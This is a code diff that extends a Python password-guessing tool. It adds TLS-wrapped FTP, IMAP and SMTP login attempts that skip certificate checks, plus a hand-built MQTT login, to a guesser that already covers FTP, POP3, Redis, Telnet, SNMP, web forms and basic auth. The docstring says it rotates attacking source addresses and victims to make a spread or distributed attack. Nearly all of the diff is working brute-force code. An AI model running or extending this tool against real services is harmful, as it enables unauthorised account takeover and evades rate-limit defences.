@@ -1,4 +1,4 @@
-"""A plain password guesser for ftp, pop3, imap, smtp, redis, telnet, snmp, web forms and basic authentication.
+"""A plain password guesser for ftp, pop3, imap, smtp (with TLS too), redis, mqtt, telnet, snmp, forms and basic authentication.
 
 Started as a file inside a namespace of the lab, so it imports nothing but the standard library. Sources (one or more addresses
 of the attacking host) take turns, and so do victims, which makes a spread or a distributed attack of it.
@@ -17,6 +17,7 @@ import poplib
 import random
 import smtplib
 import socket
+import ssl
 import threading
 import time
 from collections.abc import Callable
@@ -24,6 +25,8 @@ from pathlib import Path
 
 KEPT = threading.local()
 """What a thread keeps between two tries: a connection, a socket."""
+
+TRUSTING = ssl._create_unverified_context()  # noqa: S323 - the lab's certificate is signed by nobody
 
 Try = Callable[[str, int, str, str, "str | None"], None]
 
@@ -35,6 +38,13 @@ def _source(source: str | None) -> tuple[str, int] | None:
 def ftp(host: str, port: int, user: str, password: str, source: str | None) -> None:
     """USER and PASS."""
     with ftplib.FTP(timeout=8) as made:  # noqa: S321 - guessing at a clear-text server is its purpose
+        made.connect(host, port, source_address=_source(source))
+        made.login(user, password)
+
+
+def ftps(host: str, port: int, user: str, password: str, source: str | None) -> None:
+    """AUTH TLS, USER and PASS."""
+    with ftplib.FTP_TLS(timeout=8, context=TRUSTING) as made:  # noqa: S321 - as above
         made.connect(host, port, source_address=_source(source))
         made.login(user, password)
 
@@ -57,6 +67,30 @@ def imap(host: str, port: int, user: str, password: str, source: str | None) -> 
     finally:
         with contextlib.suppress(OSError, imaplib.IMAP4.error):
             made.logout()
+
+
+def imaps(host: str, port: int, user: str, password: str, source: str | None) -> None:
+    """LOGIN inside TLS."""
+    made = imaplib.IMAP4_SSL(host, port, ssl_context=TRUSTING, timeout=8)
+    try:
+        made.login(user, password)
+    finally:
+        made.shutdown()
+
+
+def smtps(host: str, port: int, user: str, password: str, source: str | None) -> None:
+    """EHLO and AUTH inside TLS."""
+    with smtplib.SMTP_SSL(host, port, timeout=8, context=TRUSTING) as made:
+        made.login(user, password)
+
+
+def mqtt(host: str, port: int, user: str, password: str, source: str | None) -> None:
+    """CONNECT (MQTT 3.1.1, section 3.1) with a random client id; waits for CONNACK."""
+    client, name, word = (len(t).to_bytes(2) + t.encode() for t in (f"c{random.getrandbits(32):x}", user, password))
+    body = b"\0\4MQTT\4\xc2\0\x3c" + client + name + word
+    with socket.create_connection((host, port), timeout=8, source_address=_source(source)) as made:
+        made.sendall(b"\x10" + bytes([len(body)]) + body)
+        made.recv(100)
 
 
 def smtp(host: str, port: int, user: str, password: str, source: str | None) -> None:
@@ -115,7 +149,8 @@ def basic(host: str, port: int, user: str, password: str, source: str | None) ->
     _asked(host, port, source, "GET", "/admin/", "", {"Authorization": f"Basic {coded}"})
 
 
-KINDS: dict[str, Try] = {made.__name__: made for made in (ftp, pop3, imap, smtp, redis, telnet, snmp, form, basic)}
+KINDS: dict[str, Try] = {made.__name__: made for made in (ftp, ftps, pop3, imap, imaps, smtp, smtps, mqtt)}
+KINDS |= {made.__name__: made for made in (redis, telnet, snmp, form, basic)}
 MAIL = (poplib.error_proto, imaplib.IMAP4.error, smtplib.SMTPException)
 REFUSED = (OSError, EOFError, ftplib.Error, http.client.HTTPException, *MAIL)
 
